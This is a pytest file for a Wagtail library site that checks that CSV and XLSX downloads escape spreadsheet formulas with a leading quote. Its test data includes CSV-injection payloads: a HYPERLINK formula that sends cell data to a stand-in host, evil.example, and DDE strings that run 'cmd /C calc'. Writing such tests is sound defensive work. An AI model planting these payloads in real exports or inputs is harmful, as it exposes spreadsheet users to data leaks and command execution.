"""Spreadsheet downloads never carry a live formula: the escaping rule itself, and
Wagtail's own listing and report downloads (snippet index ``?export=``, site history)."""

import csv
import datetime
import io

from wagtail.log_actions import log

import openpyxl
import pytest

from library_site.spreadsheets import cell_escape, cell_unescape, csv_bytes
from tests.factories.catalog import RecordFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+84 90 123 4567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\rtext",
    "  =1+1",
    "\n@SUM(A1)",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_gets_a_quote_and_comes_back_on_unescape(text):
    escaped = cell_escape(text)

    assert escaped == "'" + text
    assert cell_unescape(escaped) == text


@pytest.mark.parametrize(
    "value",
    [
        "Phường Bến Nghé, Quận 1",
        "Học tin học văn phòng - buổi tối",
        "'bắt đầu bằng dấu nháy",
        "",
        -5,
        -1.25,
        0,
        True,
        None,
        datetime.date(2026, 3, 25),
        datetime.datetime(2026, 3, 25, 8, 30),
    ],
)
def test_ordinary_text_numbers_and_dates_are_left_as_they_are(value):
    assert cell_escape(value) == value
    if isinstance(value, str):
        assert cell_unescape(value) == value


def test_csv_bytes_escape_text_cells_and_keep_numbers():
    data = csv_bytes([["Tên", "Số"], ["=1+1", -5]])

    assert list(csv.reader(io.StringIO(data.decode("utf-8-sig")))) == [["Tên", "Số"], ["'=1+1", "-5"]]


# Columns of RecordViewSet.list_export and of Wagtail's site history list_export.
TITLE, YEAR = 1, 3
LABEL, TIMESTAMP = 1, 5


def _csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8"))))


def _xlsx_rows(content: bytes) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


@pytest.mark.django_db
def test_record_listing_downloads_escape_a_formula_title(client, library, librarian):
    # Given a record whose title is a formula, and an ordinary one
    RecordFactory(library=library, title='=HYPERLINK("http://evil.example","Mở")', year=2019)
    RecordFactory(library=library, title="Đất rừng phương Nam", year=1957)
    client.force_login(librarian)

    # When the librarian downloads the records listing as CSV and as XLSX
    csv_response = client.get("/admin/snippets/catalog/record/?export=csv")
    xlsx_response = client.get("/admin/snippets/catalog/record/?export=xlsx")

    # Then the formula is text behind a quote; other text and the year are unchanged
    assert csv_response.status_code == xlsx_response.status_code == 200
    _header, *rows = _csv_rows(csv_response)
    assert {row[TITLE]: row[YEAR] for row in rows} == {
        '\'=HYPERLINK("http://evil.example","Mở")': "2019",
        "Đất rừng phương Nam": "1957",
    }
    _header, *cells = _xlsx_rows(xlsx_response.getvalue())
    assert {row[TITLE]: row[YEAR] for row in cells} == {
        '\'=HYPERLINK("http://evil.example","Mở")': 2019,
        "Đất rừng phương Nam": 1957,
    }


@pytest.mark.django_db
def test_site_history_report_downloads_escape_a_formula_name(client, library, superuser):
    # Given a logged change of a record whose title is a formula
    record = RecordFactory(library=library, title="=cmd|' /C calc'!A0", year=2020)
    log(instance=record, action="wagtail.create", user=superuser)
    client.force_login(superuser)

    # When the site history is downloaded
    csv_response = client.get("/admin/reports/site-history/?export=csv")
    xlsx_response = client.get("/admin/reports/site-history/?export=xlsx")

    # Then the name is escaped text and the time stays a date and time in the workbook
    _header, *rows = _csv_rows(csv_response)
    assert [row[LABEL] for row in rows if "calc" in row[LABEL]] == ["'=cmd|' /C calc'!A0 (2020)"]
    _header, *cells = _xlsx_rows(xlsx_response.getvalue())
    assert [row[LABEL] for row in cells if "calc" in row[LABEL]] == ["'=cmd|' /C calc'!A0 (2020)"]
    assert all(isinstance(row[TIMESTAMP], datetime.datetime) for row in cells)
